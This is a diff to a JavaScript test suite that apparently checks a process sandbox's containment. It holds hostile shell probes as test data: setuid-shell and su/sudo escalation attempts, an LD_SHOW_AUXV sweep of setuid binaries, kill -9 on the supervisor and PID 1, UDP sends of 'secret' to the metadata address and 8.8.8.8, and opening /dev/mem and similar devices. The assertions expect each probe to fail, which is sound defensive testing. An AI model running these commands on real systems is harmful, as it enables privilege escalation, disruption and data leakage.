@@ -75,6 +75,9 @@ beforeAll(async () => {
     setuid: `cp /bin/sh s; chmod 6755 s; ./s -p -c 'id -u; id -ru'; su root -c 'echo ROOT' < /dev/null; sudo -n id
       for f in $(find /usr /bin /sbin -xdev -perm -4000 -type f 2>/dev/null); do timeout 2 "$f" --help < /dev/null > /dev/null 2>&1; done
       setpriv --reuid=0 echo ROOT; grep -h CapBnd /proc/self/status > /dev/null; id -u`,
+    // The loader says who a program works for, and is silent where the kernel made it work for somebody else.
+    loader: `for f in $(find /usr/bin /usr/sbin -xdev -perm /6000 -type f -perm -o+x); do
+        LD_SHOW_AUXV=1 timeout 2 "$f" --help < /dev/null 2> /dev/null | grep -q '^AT_EUID: *1000$' && echo SELF || echo "OTHER $f"; done`,
     supervisor: `cat /proc/[0-9]*/cmdline | tr '\\0' ' ' | grep -c 'slipway-[s]upervisor'
       kill -9 ${stage.server().pid} && echo KILLED; kill -9 ${process.pid} && echo KILLED
       kill -STOP 1; kill -9 1; kill -TERM 1; grep State /proc/1/status | grep -c T; ls -d /proc/[0-9]* | wc -l`,
@@ -85,7 +88,7 @@ beforeAll(async () => {
     datagrams: `for a in 127.0.0.1 ${addresses.join(' ')} 169.254.169.254 8.8.8.8; do
         (echo secret > /dev/udp/$a/${host.port}) 2>/dev/null; (echo secret > /dev/udp/$a/53) 2>/dev/null; done
       cat /etc/resolv.conf; getent hosts secret.example.com; ip route 2>/dev/null; echo sent`,
-    devices: `mknod b b 8 0; mknod c c 1 1; for d in mem kmem kmsg port sda vda nvme0n1 fuse kvm net/tun loop-control; do
+    devices: `mknod b b 8 0 && echo MADE; mknod c c 1 1 && echo MADE; for d in mem kmem kmsg port sda vda nvme0n1 fuse kvm net/tun loop-control; do
         (exec 3< /dev/$d) 2>/dev/null && echo "OPENED $d"; done; ls /dev`,
   });
 }, 120_000);
@@ -124,6 +127,8 @@ describe('the kernel', () => {
     const lines = seen.of('setuid');
     expect(lines.filter((line) => /^\d+$/.test(line))).toEqual(['1000', '1000', '1000']);
     expect(lines.join('\n')).not.toMatch(/^ROOT|uid=0/m);
+    expect(seen.of('loader')).toContain('SELF');
+    expect(seen.of('loader').filter((line) => line !== 'SELF')).toEqual([]);
   });
 
   it('shows no device but the harmless ones, and lets none be made', () => {
